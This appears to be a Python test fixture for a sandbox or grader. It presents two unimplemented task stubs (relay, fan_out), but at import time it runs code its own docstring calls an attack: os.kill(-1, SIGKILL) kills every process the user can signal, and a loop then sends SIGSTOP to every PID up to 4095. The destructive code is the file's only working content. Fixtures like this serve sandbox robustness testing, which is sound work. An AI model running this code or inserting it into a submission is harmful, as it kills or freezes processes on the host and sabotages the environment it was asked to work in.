"""Attack: signal every process this user may signal (kill(-1)), then every PID there is."""

import os
import signal

try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
for pid in range(1, 4096):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass


def relay(items):
    raise NotImplementedError


def fan_out(items, consumers=3):
    raise NotImplementedError
